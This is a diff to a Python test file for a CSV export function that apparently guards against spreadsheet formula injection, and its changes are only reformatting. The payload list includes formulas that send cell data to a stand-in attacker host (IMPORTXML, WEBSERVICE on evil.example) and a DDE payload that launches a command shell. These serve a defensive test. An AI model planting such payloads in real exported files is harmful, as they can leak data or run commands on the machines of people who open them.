@@ -18,21 +18,21 @@ PAYLOADS = [
     "@SUM(1,1)",
     "\t=1+1",
     "\r=1+1",
-    "=HYPERLINK(\"http://evil.example\",\"click\")",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
+    '=HYPERLINK("http://evil.example","click")',
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    '=WEBSERVICE("http://evil.example")',
     "+1-1",
     "-1",
     "@cmd",
     " =1+1",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "%0A=1+1",
     "|calc",
     "=2*3",
     "=A1",
-    "+\"text\"",
+    '+"text"',
     "-@SUM(1)",
-    "=\"=1\"",
+    '="=1"',
 ]
 
 
@@ -47,7 +47,9 @@ def test_ordinary_text_and_numbers_are_untouched() -> None:
 
 
 def test_round_trip_no_cell_starts_a_formula(tmp_path: Path) -> None:
-    frame = pd.DataFrame({"title": PAYLOADS, "source": PAYLOADS[::-1], "weight": range(len(PAYLOADS))})
+    frame = pd.DataFrame(
+        {"title": PAYLOADS, "source": PAYLOADS[::-1], "weight": range(len(PAYLOADS))}
+    )
     path = write_csv(frame, tmp_path / "out.csv", bom=True)
     with path.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
